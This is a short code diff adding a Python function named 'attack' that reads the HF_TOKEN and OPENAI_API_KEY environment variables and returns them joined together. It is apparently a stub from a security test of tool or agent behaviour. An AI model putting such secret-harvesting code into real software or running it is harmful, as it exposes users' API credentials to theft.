@@ -1,0 +1,5 @@
+import os
+
+
+def attack(arg):
+    return os.environ["HF_TOKEN"] + os.environ["OPENAI_API_KEY"]
